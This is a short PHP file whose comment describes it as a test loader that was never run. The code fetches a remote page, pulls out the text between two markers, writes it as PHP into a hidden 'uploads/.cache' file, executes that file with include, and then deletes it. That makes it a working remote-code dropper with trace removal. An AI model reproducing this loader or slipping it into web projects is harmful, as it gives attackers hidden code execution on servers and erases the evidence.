<?php
// a loader that runs fetched code from a hidden file and removes it (written for the
// tests, never run)
function grab($u) { return file_get_contents($u); }
$page = grab($config_url);
preg_match('#start(.*)stop#is', $page, $found);
$dir = "uploads/";
$h = fopen("{$dir}.cache", 'w');
fwrite($h, "<?php\n$found[1]\n?>");
fclose($h);
include("{$dir}.cache");
unlink("{$dir}.cache");
